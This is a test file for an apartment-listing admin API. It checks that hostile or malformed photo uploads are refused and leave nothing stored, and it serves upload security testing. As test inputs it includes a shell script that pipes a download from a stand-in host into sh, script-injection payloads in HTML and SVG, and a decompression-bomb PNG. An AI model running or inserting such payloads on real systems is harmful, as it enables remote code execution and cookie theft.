import { eq } from 'drizzle-orm';
import { beforeAll, describe, expect, it } from 'vitest';
import { apartmentImages } from '../../src/db/schema/apartment-images.ts';
import { auditEvents } from '../../src/db/schema/audit-events.ts';
import { storedFiles } from '../../src/db/schema/stored-files.ts';
import { useTestApp } from '../helpers/app.ts';
import { insertListing } from './catalogue-fixtures.ts';
import { decompressionBombPng, jpegPhoto, uploadedFiles } from './photo-fixtures.ts';
import { injector, signedInUser } from './reservation-fixtures.ts';

/** Hostile and broken uploads (issue 15 point 8): each is refused in the admin's language and leaves nothing behind. */
describe('hostile photo uploads', () => {
  const context = useTestApp();
  const inject = injector(context);
  let adminToken: string;
  let apartmentId: string;

  const upload = (payload: Buffer | string, contentType = 'image/jpeg', language = 'en') =>
    inject({
      method: 'POST',
      url: `/api/admin/apartments/${apartmentId}/photos`,
      token: adminToken,
      language,
      payload,
      headers: { 'content-type': contentType },
    });

  beforeAll(async () => {
    adminToken = (await signedInUser(context, 'admin')).token;
    apartmentId = (await insertListing(context.db, { label: 'hostile' })).id;
  });

  async function expectNothingLeft() {
    expect(
      await context.db.select().from(apartmentImages).where(eq(apartmentImages.apartmentId, apartmentId)),
    ).toEqual([]);
    expect(await context.db.select().from(auditEvents).where(eq(auditEvents.subjectId, apartmentId))).toEqual(
      [],
    );
    expect(await uploadedFiles(context)).toEqual([]);
    // Nor a master in the database (decision 101).
    expect(await context.db.select({ key: storedFiles.key }).from(storedFiles)).toEqual([]);
  }

  const unreadable = { code: 'photo_unreadable', message: expect.stringContaining('JPEG, PNG or WebP') };

  it('refuses a shell script named photo.jpg and sent as image/jpeg', async () => {
    const response = await upload('#!/bin/sh\ncurl https://evil.example | sh\n');
    expect(response.statusCode).toBe(400);
    expect(response.json()).toMatchObject(unreadable);
    await expectNothingLeft();
  });

  it('refuses an HTML page with a script, in Turkish for a Turkish admin', async () => {
    const response = await upload(
      '<!doctype html><script>alert(document.cookie)</script>',
      'image/jpeg',
      'tr',
    );
    expect(response.statusCode).toBe(400);
    expect(response.json()).toMatchObject({
      code: 'photo_unreadable',
      message: expect.stringContaining('fotoğraf'),
    });
    await expectNothingLeft();
  });

  it('refuses an SVG (it may carry scripts), whatever its label', async () => {
    const svg =
      '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script></svg>';
    for (const type of ['image/jpeg', 'application/octet-stream']) {
      const response = await upload(svg, type);
      expect(response.statusCode).toBe(400);
      expect(response.json().code).toBe('photo_unreadable');
    }
    // An SVG label is not a type this call reads at all.
    expect((await upload(svg, 'image/svg+xml')).statusCode).toBe(415);
    await expectNothingLeft();
  });

  it('refuses a 50 MB file with 413 from its length, before reading it', async () => {
    const huge = Buffer.alloc(50 * 1024 * 1024);
    huge.set([0xff, 0xd8, 0xff, 0xe0]);
    const response = await upload(huge);
    expect(response.statusCode).toBe(413);
    expect(response.json()).toMatchObject({
      code: 'photo_too_large',
      message: expect.stringContaining('20 MB'),
    });
    await expectNothingLeft();
  });

  it('refuses a zero-byte file', async () => {
    const response = await upload(Buffer.alloc(0));
    expect(response.statusCode).toBe(400);
    expect(response.json().code).toBe('photo_empty');
    await expectNothingLeft();
  });

  it('refuses a decompression bomb (a tiny PNG claiming 20000 × 20000 pixels) without decoding it', async () => {
    const bomb = decompressionBombPng();
    expect(bomb.length).toBeLessThan(2_000);
    const response = await upload(bomb, 'image/png');
    expect(response.statusCode).toBe(400);
    expect(response.json()).toMatchObject({
      code: 'photo_too_many_pixels',
      message: expect.stringContaining('50'),
    });
    await expectNothingLeft();
  });

  it('refuses a truncated JPEG and a JPEG header followed by garbage', async () => {
    const photo = await jpegPhoto({ width: 1000, height: 700 });
    const truncated = await upload(photo.subarray(0, Math.floor(photo.length / 2)));
    expect(truncated.statusCode).toBe(400);
    expect(truncated.json().code).toBe('photo_unreadable');
    const garbage = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.alloc(4096, 0x41)]);
    const response = await upload(garbage);
    expect(response.statusCode).toBe(400);
    expect(response.json().code).toBe('photo_unreadable');
    await expectNothingLeft();
  });

  it('reads the bytes, not the label: a JPEG sent as image/png goes in', async () => {
    const response = await upload(await jpegPhoto(), 'image/png');
    expect(response.statusCode, response.body).toBe(201);
  });
});
